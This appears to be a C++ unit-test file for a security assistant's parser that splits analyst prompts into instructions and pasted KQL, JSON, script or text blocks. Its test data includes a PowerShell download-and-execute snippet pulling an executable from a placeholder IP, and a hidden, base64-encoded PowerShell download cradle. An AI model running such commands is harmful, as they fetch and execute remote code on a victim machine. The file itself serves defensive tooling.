// split_prompt and classify_block: the instruction a person wrote, apart from what they pasted
// (fenced blocks, lines after the first, text after "this:"), and what each pasted block is.
#include <gtest/gtest.h>

#include <string>

#include "planner/prompt_parts.hpp"

namespace secpilot::planner {
namespace {

constexpr const char* kQuery =
    "DeviceProcessEvents\n| where Timestamp > ago(7d)\n| where FileName =~ \"powershell.exe\"\n"
    "| project Timestamp, DeviceName, ProcessCommandLine";
constexpr const char* kScript =
    "$wc = New-Object System.Net.WebClient\n"
    "$wc.DownloadFile('http://203.0.113.45/a.exe', \"$env:TEMP\\a.exe\");\n"
    "Start-Process \"$env:TEMP\\a.exe\"";

TEST(SplitPrompt, FencedBlockWithLanguageTagLosesFenceAndTag) {
  const std::string prompt = std::string("is this query valid?\n```kql\n") + kQuery + "\n```";
  const auto parts = split_prompt(prompt);
  EXPECT_EQ(parts.instruction, "is this query valid?");
  ASSERT_EQ(parts.blocks.size(), 1u);
  EXPECT_EQ(parts.blocks[0].text, kQuery);
  EXPECT_EQ(parts.blocks[0].kind, BlockKind::kql);
  EXPECT_TRUE(parts.rest.empty());
}

TEST(SplitPrompt, TwoFencedBlocksKeepTheirOrderAndKinds) {
  const std::string prompt = std::string("compare the query and the script\n```\n") + kQuery +
                             "\n```\nand\n```powershell\n" + kScript + "\n```";
  const auto parts = split_prompt(prompt);
  EXPECT_EQ(parts.instruction, "compare the query and the script");
  ASSERT_EQ(parts.blocks.size(), 2u);
  EXPECT_EQ(parts.blocks[0].text, kQuery);
  EXPECT_EQ(parts.blocks[0].kind, BlockKind::kql);
  EXPECT_EQ(parts.blocks[1].text, kScript);
  EXPECT_EQ(parts.blocks[1].kind, BlockKind::script);
}

TEST(SplitPrompt, TextAfterTheLastBlockIsMoreInstruction) {
  const std::string prompt =
      std::string("```json\n{\"verdict\": \"malicious\", \"ip\": ") +
      "\"203.0.113.45\"}\n```\nsummarise this for the SOC, then look up the IP";
  const auto parts = split_prompt(prompt);
  EXPECT_EQ(parts.instruction, "");
  ASSERT_EQ(parts.blocks.size(), 1u);
  EXPECT_EQ(parts.blocks[0].kind, BlockKind::json);
  EXPECT_EQ(parts.blocks[0].text, "{\"verdict\": \"malicious\", \"ip\": \"203.0.113.45\"}");
  EXPECT_EQ(parts.rest, "summarise this for the SOC, then look up the IP");
}

TEST(SplitPrompt, UnclosedFenceRunsToTheEnd) {
  const std::string prompt = std::string("run this\n```kql\n") + kQuery;
  const auto parts = split_prompt(prompt);
  EXPECT_EQ(parts.instruction, "run this");
  ASSERT_EQ(parts.blocks.size(), 1u);
  EXPECT_EQ(parts.blocks[0].text, kQuery);
  EXPECT_TRUE(parts.rest.empty());
}

TEST(SplitPrompt, EmptyFencedBlockIsNoBlock) {
  const auto parts = split_prompt("analyse this\n```\n\n```");
  EXPECT_EQ(parts.instruction, "analyse this");
  EXPECT_TRUE(parts.blocks.empty());
}

TEST(SplitPrompt, UnfencedPasteIsEverythingAfterTheFirstLine) {
  const std::string prompt = std::string("  what does this do?\n") + kScript + "\n\n";
  const auto parts = split_prompt(prompt);
  EXPECT_EQ(parts.instruction, "what does this do?");
  ASSERT_EQ(parts.blocks.size(), 1u);
  EXPECT_EQ(parts.blocks[0].text, kScript);
  EXPECT_EQ(parts.blocks[0].kind, BlockKind::script);
}

TEST(SplitPrompt, PromptOfOneLineWithATrailingNewlineHasNoBlock) {
  const auto parts = split_prompt("look up 203.0.113.45\n");
  EXPECT_EQ(parts.instruction, "look up 203.0.113.45");
  EXPECT_TRUE(parts.blocks.empty());
}

TEST(SplitPrompt, InlinePasteAfterThisColon) {
  const auto parts =
      split_prompt("Extract the IOCs from this: beacon to 203.0.113[.]45 and evil-cdn[.]example");
  EXPECT_EQ(parts.instruction, "Extract the IOCs from this");
  ASSERT_EQ(parts.blocks.size(), 1u);
  EXPECT_EQ(parts.blocks[0].text, "beacon to 203.0.113[.]45 and evil-cdn[.]example");
  EXPECT_EQ(parts.blocks[0].kind, BlockKind::text);
}

TEST(SplitPrompt, ShortTextAfterThisColonStaysInTheInstruction) {
  const auto parts = split_prompt("check this: ws-fin-07");
  EXPECT_EQ(parts.instruction, "check this: ws-fin-07");
  EXPECT_TRUE(parts.blocks.empty());
}

TEST(SplitPrompt, PlainRequestIsAllInstruction) {
  const auto parts = split_prompt("  is 203.0.113.45 malicious?  ");
  EXPECT_EQ(parts.instruction, "is 203.0.113.45 malicious?");
  EXPECT_TRUE(parts.blocks.empty());
  EXPECT_TRUE(parts.rest.empty());
}

TEST(ClassifyBlock, JsonDocumentsAndArrays) {
  EXPECT_EQ(classify_block(R"({"alert": {"id": 4127, "host": "ws-fin-07"}})"), BlockKind::json);
  EXPECT_EQ(classify_block("  [1, 2, 3]  "), BlockKind::json);
}

TEST(ClassifyBlock, BrokenJsonIsNotJson) {
  EXPECT_NE(classify_block(R"({"alert": {"id": 4127,)"), BlockKind::json);
  EXPECT_EQ(classify_block("[see the attachment]"), BlockKind::text);
}

TEST(ClassifyBlock, KqlQuery) {
  EXPECT_EQ(classify_block(kQuery), BlockKind::kql);
  EXPECT_EQ(classify_block("SigninLogs | where ResultType != 0 | take 50"), BlockKind::kql);
}

TEST(ClassifyBlock, ScriptsAndCommandLines) {
  EXPECT_EQ(classify_block(kScript), BlockKind::script);
  EXPECT_EQ(classify_block(
                "powershell.exe -nop -w hidden -enc "
                "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
            BlockKind::script);
}

TEST(ClassifyBlock, ProseIsText) {
  EXPECT_EQ(classify_block("The user reported a pop-up asking for their password after opening "
                           "the invoice from billing@contoso-payments.example."),
            BlockKind::text);
  EXPECT_EQ(classify_block(""), BlockKind::text);
}

}  // namespace
}  // namespace secpilot::planner
